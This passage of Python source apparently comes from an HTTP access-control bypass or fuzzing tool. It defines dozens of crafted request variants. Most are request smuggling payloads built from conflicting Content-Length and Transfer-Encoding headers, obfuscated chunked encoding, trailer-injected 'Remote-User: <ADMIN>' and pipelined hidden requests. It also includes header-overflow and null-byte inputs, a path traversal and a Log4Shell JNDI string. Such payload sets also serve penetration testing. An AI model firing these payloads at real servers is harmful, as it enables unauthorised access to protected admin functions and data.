            "Upgrade: websocket",
            "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
        ),
    ),
    Trick(
        "a change to WebSocket that is none",
        lines=("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 777"),
    ),
    Trick(
        "a change to HTTP/2",
        lines=("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"),
    ),
    Trick("a change to TLS", lines=("Connection: Upgrade", "Upgrade: TLS/1.0, HTTP/1.1")),
    Trick("a change without a connection", lines=("Upgrade: websocket",)),
    Trick("a connection kept", lines=("Connection: keep-alive", "Keep-Alive: timeout=600")),
    Trick("ask first", method="POST", lines=("Expect: 100-continue", "Content-Length: 3"), rest="a=b"),
    Trick("expect a wonder", lines=("Expect: 200-ok",)),
    Trick("a range", lines=("Range: bytes=0-10",)),
    Trick(
        "a range of the past",
        lines=("If-Range: x", "If-None-Match: *", "If-Modified-Since: Thu, 01 Jan 1970 00:00:00 GMT"),
    ),
    Trick("as a script would", lines=("Accept: application/json", "X-Requested-With: XMLHttpRequest")),
    Trick("as a picture", lines=("Sec-Fetch-Mode: no-cors", "Sec-Fetch-Dest: image")),
    Trick("from the back office", lines=("Referer: http://<HOST>/admin/users", "Origin: http://<HOST>")),
    Trick("in pictures that a cache keeps", target="<WANTED>/x.png", lines=("Cache-Control: only-if-cached",)),
    Trick("a header without a colon", lines=("Remote-User",)),
    Trick("a header without a name", lines=(": <ADMIN>",)),
    Trick("a header of 7000 signs", lines=("X-Long: " + "a" * 7000,)),
    Trick("a header of 40000 signs", lines=("X-Long: " + "a" * 40_000,)),
    Trick("a name of 3000 signs", lines=("X-" + "a" * 3000 + ": x",)),
    Trick("60 headers", lines=tuple(f"X-H{number}: x" for number in range(60))),
    Trick("900 headers", lines=tuple(f"X-H{number}: x" for number in range(900))),
    Trick("other bytes in a header", lines=("X-Bytes: \xff\xfe\x80",)),
    Trick("other bytes in a name", lines=("X-\xff: x",)),
    Trick("a null in a header", lines=("X-Null: a\0b",)),
    Trick("other languages", lines=("Accept-Language: ../../admin", "Accept: \xff", "User-Agent: ${jndi:ldap://x}")),
)

FRAMES = (
    Trick("a length and chunks", method="POST", lines=("Content-Length: 6", _CHUNKED), rest="0\r\n\r\n" + _INSIDE),
    Trick(
        "chunks and a length",
        method="POST",
        lines=(_CHUNKED, "Content-Length: 4"),
        rest="5c\r\n" + _INSIDE + "0\r\n\r\n",
    ),
    Trick("two lengths", method="POST", lines=("Content-Length: 0", "Content-Length: 200"), rest=_INSIDE),
    Trick("two lengths and a comma", method="POST", lines=("Content-Length: 0, 200",), rest=_INSIDE),
    Trick("a length with a sign", method="POST", lines=("Content-Length: +0",), rest=_INSIDE),
    Trick("a length below nothing", method="POST", lines=("Content-Length: -1",), rest=_INSIDE),
    Trick("a length in hexadecimal", method="POST", lines=("Content-Length: 0x0",), rest=_INSIDE),
    Trick("a length with a space before the colon", method="POST", lines=("Content-Length : 200",), rest=_INSIDE),
    Trick("a length with an underscore", method="POST", lines=("Content_Length: 200",), rest=_INSIDE),
    Trick("a length without a body", lines=("Content-Length: 0",), rest=_INSIDE),
    Trick("a body of a get", lines=("Content-Length: 3",), rest="a=b" + _INSIDE),
    Trick("chunks in odd case", method="POST", lines=("Transfer-Encoding: cHuNkEd",), rest="0\r\n\r\n" + _INSIDE),
    Trick("chunks behind a tab", method="POST", lines=("Transfer-Encoding:\tchunked",), rest="0\r\n\r\n" + _INSIDE),
    Trick(
        "chunks with a space before the colon",
        method="POST",
        lines=("Transfer-Encoding : chunked", "Content-Length: 5"),
        rest="0\r\n\r\n" + _INSIDE,
    ),
    Trick(
        "chunks with an underscore",
        method="POST",
        lines=("Transfer_Encoding: chunked", "Content-Length: 5"),
        rest="0\r\n\r\n" + _INSIDE,
    ),
    Trick(
        "chunks behind a fold",
        method="POST",
        lines=("Transfer-Encoding:\r\n chunked", "Content-Length: 5"),
        rest="0\r\n\r\n" + _INSIDE,
    ),
    Trick(
        "chunks and something else",
        method="POST",
        lines=("Transfer-Encoding: chunked, identity",),
        rest="0\r\n\r\n" + _INSIDE,
    ),
    Trick(
        "chunks that are none",
        method="POST",
        lines=("Transfer-Encoding: xchunked", "Content-Length: 5"),
        rest="0\r\n\r\n" + _INSIDE,
    ),
    Trick("chunks, twice", method="POST", lines=(_CHUNKED, _CHUNKED), rest="0\r\n\r\n" + _INSIDE),
    Trick(
        "chunks by a vertical tab",
        method="POST",
        lines=("Transfer-Encoding: \x0bchunked", "Content-Length: 5"),
        rest="0\r\n\r\n" + _INSIDE,
    ),
    Trick("chunks and a bare new line", method="POST", lines=(_CHUNKED,), rest="0\n\n" + _INSIDE),
    Trick("chunks with an extension", method="POST", lines=(_CHUNKED,), rest="0;\nx\r\n\r\n" + _INSIDE),
    Trick(
        "chunks with a user behind them",
        method="POST",
        lines=(_CHUNKED, "Trailer: Remote-User"),
        rest="0\r\nRemote-User: <ADMIN>\r\n\r\n",
    ),
    Trick("chunks of a size too large", method="POST", lines=(_CHUNKED,), rest="10000000000000000\r\n" + _INSIDE),
    Trick("chunks in HTTP/1.0", method="POST", version=" HTTP/1.0", lines=(_CHUNKED,), rest="0\r\n\r\n" + _INSIDE),
    Trick(
        "a change to WebSocket with a request inside",
        lines=("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 777"),
        rest=_INSIDE,
    ),
    Trick("a second request behind the first", lines=("Connection: keep-alive",), rest=_INSIDE),
    Trick("a second request behind a head", method="HEAD", lines=("Connection: keep-alive",), rest=_INSIDE),
    Trick("a second request behind a refused one", target="/%00", lines=("Connection: keep-alive",), rest=_INSIDE),
)

TRICKS = (*PATHS, *HOSTS, *FORWARDED, *IDENTITIES, *HOPS, *COOKIES, *NO_PASSES, *WORDS, *FRAMES)
